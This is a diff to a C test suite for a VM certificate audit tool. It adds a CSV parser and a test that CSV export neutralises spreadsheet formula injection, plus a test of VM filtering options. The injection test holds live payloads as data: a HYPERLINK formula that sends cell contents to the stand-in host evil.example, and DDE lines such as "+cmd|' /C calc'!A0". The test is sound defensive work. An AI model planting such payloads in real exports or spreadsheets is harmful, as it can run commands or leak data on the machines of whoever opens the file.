@@ -34,6 +34,7 @@
 #include "util/bytes.h"
 #include "util/fileio.h"
 #include "util/ossl.h"
+#include "util/strbuf.h"
 #include "util/text.h"
 
 #define PASS "audit-test-export"
@@ -1127,8 +1128,8 @@ START_TEST(expiry_is_ordered_by_date_at_the_given_time)
 	ck_assert_int_eq(json_object_get_int(jget(json_object_array_get_idx(ex, 0), "days_left")),
 			 -17);
 	ck_assert_str_eq(jstr(json_object_array_get_idx(ex, 3), "not_after"), "2026-03-01T00:00:00Z");
-	ck_assert_str_eq(jstr(vm_named(doc, "vm-HVB"), "verdict"), "restorable-expired");
-	ck_assert_str_eq(jstr(vm_named(doc, "vm-HVA"), "verdict"), "restorable-expired");
+	ck_assert_str_eq(jstr(vm_named(doc, "vm-HVB"), "verdict"), "restorable_expired");
+	ck_assert_str_eq(jstr(vm_named(doc, "vm-HVA"), "verdict"), "restorable_expired");
 	ck_assert_str_eq(jstr(vm_named(doc, "vm-HVC"), "verdict"), "restorable");
 	json_object_put(doc);
 	tu_run_free(&r);
@@ -1149,6 +1150,202 @@ START_TEST(expiry_is_ordered_by_date_at_the_given_time)
 	ck_assert(b < a);
 	ck_assert_ptr_nonnull(strstr(r.out, "Expired or expiring certificates, by date (4)"));
 	ck_assert_ptr_null(strchr(r.err, '\r')); /* no progress line when stderr is no terminal */
+	tu_run_free(&r);
+	tu_rmtree(d);
+	free(tree);
+	free(pw);
+	free(d);
+}
+END_TEST
+
+/* Every cell of a CSV document (RFC 4180), row-major; *ncols per row must match. */
+static char **csv_cells(const char *s, size_t len, size_t ncols, size_t *nrows)
+{
+	char **cells = NULL;
+	size_t n = 0, cap = 0, fields = 0;
+	strbuf cur = STRBUF_INIT;
+	bool quoted = false;
+	sb_adds(&cur, "");
+	*nrows = 0;
+	for (size_t i = 0; i < len; i++) {
+		char c = s[i];
+		if (quoted) {
+			if (c == '"' && i + 1 < len && s[i + 1] == '"') {
+				sb_addc(&cur, '"');
+				i++;
+			} else if (c == '"') {
+				quoted = false;
+			} else {
+				sb_addc(&cur, c);
+			}
+			continue;
+		}
+		if (c == '"') {
+			quoted = true;
+			continue;
+		}
+		if (c == ',' || (c == '\r' && i + 1 < len && s[i + 1] == '\n')) {
+			if (n == cap) {
+				cap = cap ? cap * 2 : 64;
+				cells = realloc(cells, cap * sizeof *cells);
+			}
+			cells[n++] = sb_detach(&cur);
+			sb_adds(&cur, "");
+			fields++;
+			if (c == '\r') {
+				ck_assert_uint_eq(fields, ncols);
+				fields = 0;
+				(*nrows)++;
+				i++;
+			}
+			continue;
+		}
+		sb_addc(&cur, c);
+	}
+	sb_free(&cur);
+	return cells;
+}
+
+/* The value a neutralised text cell stands for: one leading quote removed. */
+static const char *csv_value(const char *cell)
+{
+	return cell[0] == '\'' ? cell + 1 : cell;
+}
+
+/* Names and subjects that would run as formulas in a spreadsheet (OWASP CSV injection). */
+START_TEST(csv_cells_cannot_run_as_formulas)
+{
+	static const char *const names[] = {
+		"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+		"+cmd|' /C calc'!A0",
+		"-2+3+cmd|' /C calc'!A0",
+		"@SUM(1+1)*cmd|' /C calc'!A0",
+		"\t=1+1",
+		"\r=1+1",
+		"'already quoted",
+		"plain-name",
+	};
+	size_t nn = sizeof names / sizeof *names;
+	char *d = tu_mkdtemp(), *pw = write_passwords(d);
+	char *tree = tu_join(d, "tree");
+	tfiles f = { .n = 0 };
+	char ids[8][37];
+	for (size_t i = 0; i < nn; i++) {
+		tguard g;
+		char host[64];
+		snprintf(host, sizeof host, "=cmd|' /C calc'!A%zu", i); /* a hostile host name */
+		guard_new(&g, host, day("2016-01-01"), day("2026-01-01"));
+		char dir[16], p[64];
+		guid_n(ids[i], 200 + (unsigned)i);
+		snprintf(dir, sizeof dir, "vm%zu", i);
+		files_vm(&f, dir, names[i], ids[i], &g);
+		snprintf(p, sizeof p, "pfx/%zu-enc.pfx", i);
+		files_pfx(&f, p, &g.enc, PASS);
+		snprintf(p, sizeof p, "pfx/%zu-sig.pfx", i);
+		files_pfx(&f, p, &g.sig, PASS);
+		files_to_dir(&f, tree);
+		guard_free(&g);
+	}
+	static const char *const vms[] = { "--format", "csv", "--table", "vms", NULL };
+	tu_run_result r = audit_run(NULL, pw, "2026-02-01", vms, tree);
+	ck_assert_int_eq(r.status, 1);
+	size_t rows;
+	char **c = csv_cells(r.out, r.outlen, VM_CSV_FIELDS, &rows);
+	ck_assert_uint_eq(rows, nn + 1);
+	for (size_t row = 1; row < rows; row++) {
+		char **cell = c + row * VM_CSV_FIELDS;
+		size_t k = 0;
+		while (k < nn && strcmp(cell[0], ids[k]) != 0)
+			k++;
+		ck_assert_uint_lt(k, nn);
+		bool guard = strchr("=+-@\t\r'", names[k][0]) != NULL;
+		ck_assert_msg(guard == (cell[1][0] == '\''), "name cell %s", cell[1]);
+		ck_assert_str_eq(csv_value(cell[1]), names[k]); /* the rule is reversible */
+		ck_assert_str_eq(cell[2], "restorable_expired");
+		ck_assert_str_eq(cell[10], "-31"); /* days_left: a number, minus sign and all */
+	}
+	for (size_t i = 0; i < rows * VM_CSV_FIELDS; i++) {
+		if (i % VM_CSV_FIELDS == 10)
+			continue;
+		ck_assert_msg(!strchr("=+-@\t\r", c[i][0]) || !c[i][0], "live cell %s", c[i]);
+		free(c[i]);
+	}
+	for (size_t row = 0; row < rows; row++)
+		free(c[row * VM_CSV_FIELDS + 10]);
+	free(c);
+	tu_run_free(&r);
+	static const char *const certs[] = { "--format", "csv", "--table", "certs", NULL };
+	r = audit_run(NULL, pw, "2026-02-01", certs, tree);
+	c = csv_cells(r.out, r.outlen, CERT_CSV_FIELDS, &rows);
+	ck_assert_uint_eq(rows, 2 * nn + 1);
+	for (size_t row = 1; row < rows; row++) {
+		char **cell = c + row * CERT_CSV_FIELDS;
+		ck_assert_msg(strncmp(cell[4], "'=cmd|' /C calc'!A", 18) == 0, "host %s", cell[4]);
+		ck_assert_str_eq(cell[8], "-31");
+	}
+	for (size_t i = 0; i < rows * CERT_CSV_FIELDS; i++) {
+		ck_assert_msg(i % CERT_CSV_FIELDS == 8 || !strchr("=+-@\t\r", c[i][0]) || !c[i][0],
+			      "live cell %s", c[i]);
+		free(c[i]);
+	}
+	free(c);
+	tu_run_free(&r);
+	tu_rmtree(d);
+	free(tree);
+	free(pw);
+	free(d);
+}
+END_TEST
+
+/* --verdict and --expiring-before select VMs; the certificate index stays whole. */
+START_TEST(audit_filters_vms_not_certificates)
+{
+	char *d = tu_mkdtemp(), *pw = write_passwords(d);
+	char *tree = tu_join(d, "tree");
+	static const char *const hosts[3] = { "HVA", "HVB", "HVC" };
+	static const char *const ends[3] = { "2026-03-01", "2026-01-15", "2027-06-01" };
+	tfiles f = { .n = 0 };
+	for (int i = 0; i < 3; i++) {
+		tguard g;
+		guard_new(&g, hosts[i], day("2016-01-01"), day(ends[i]));
+		char id[37], dir[16], p[64];
+		guid_n(id, 120 + (unsigned)i);
+		snprintf(dir, sizeof dir, "vm-%s", hosts[i]);
+		files_vm(&f, dir, dir, id, &g);
+		snprintf(p, sizeof p, "pfx/%s-enc.pfx", hosts[i]);
+		files_pfx(&f, p, &g.enc, PASS);
+		snprintf(p, sizeof p, "pfx/%s-sig.pfx", hosts[i]);
+		files_pfx(&f, p, &g.sig, PASS);
+		files_to_dir(&f, tree);
+		guard_free(&g);
+	}
+	static const char *const a1[] = { "--format", "json", "--verdict", "restorable", NULL };
+	tu_run_result r = audit_run(NULL, pw, "2026-02-01", a1, tree);
+	ck_assert_int_eq(r.status, 0); /* the exit status covers the VMs reported */
+	json_object *doc = parse_json(&r);
+	ck_assert_uint_eq(json_object_array_length(jget(doc, "vms")), 1);
+	ck_assert_str_eq(jstr(json_object_array_get_idx(jget(doc, "vms"), 0), "name"), "vm-HVC");
+	ck_assert_uint_eq(json_object_array_length(jget(doc, "certificates")), 6);
+	json_object *sum = jget(doc, "summary");
+	ck_assert_int_eq(json_object_get_int(jget(sum, "vms")), 1);
+	ck_assert_int_eq(json_object_get_int(jget(sum, "vms_in_evidence")), 3);
+	ck_assert_int_eq(json_object_get_int(jget(jget(sum, "verdicts"), "restorable_expired")), 0);
+	json_object_put(doc);
+	tu_run_free(&r);
+	static const char *const a2[] = { "--format", "csv", "--expiring-before", "2026-02-15",
+					  NULL };
+	r = audit_run(NULL, pw, "2026-02-01", a2, tree);
+	ck_assert_int_eq(r.status, 1);
+	size_t counts[8];
+	char *cell = NULL;
+	ck_assert_uint_eq(csv_parse(r.out, r.outlen, counts, 8, &cell, 1, 1), 2);
+	ck_assert_str_eq(cell, "vm-HVB");
+	free(cell);
+	tu_run_free(&r);
+	static const char *const a3[] = { "--verdict", "rebuild", NULL };
+	r = audit_run(NULL, pw, "2026-02-01", a3, tree);
+	ck_assert_int_eq(r.status, 0);
+	ck_assert_ptr_nonnull(strstr(r.out, "Only VMs with verdict rebuild: 0 of the 3 VMs"));
 	tu_run_free(&r);
 	tu_rmtree(d);
 	free(tree);
@@ -1343,6 +1540,8 @@ int main(void)
 	tcase_add_test(cli, duplicate_pfx_copies_are_opened_once_and_all_listed);
 	tcase_add_test(cli, same_inputs_and_date_give_the_same_bytes);
 	tcase_add_test(cli, csv_and_jsonl_are_well_formed);
+	tcase_add_test(cli, csv_cells_cannot_run_as_formulas);
+	tcase_add_test(cli, audit_filters_vms_not_certificates);
 	tcase_add_test(cli, expiry_is_ordered_by_date_at_the_given_time);
 	tcase_add_test(cli, usage_errors);
 	suite_add_tcase(s, cli);
